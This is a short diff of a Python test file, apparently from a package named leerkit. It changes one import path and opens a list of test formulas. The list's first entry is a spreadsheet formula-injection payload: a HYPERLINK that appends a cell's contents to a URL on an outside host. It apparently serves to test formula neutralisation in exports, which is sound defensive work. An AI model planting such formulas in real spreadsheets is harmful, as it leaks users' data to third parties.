@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from leerkit.notebook.results import results_frame
 from leerkit.notebook.results_table import ResultsTable
-from leerkit.report.spreadsheet import as_text
+from leerkit.spreadsheet import as_text
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A2,"Klik hier")',
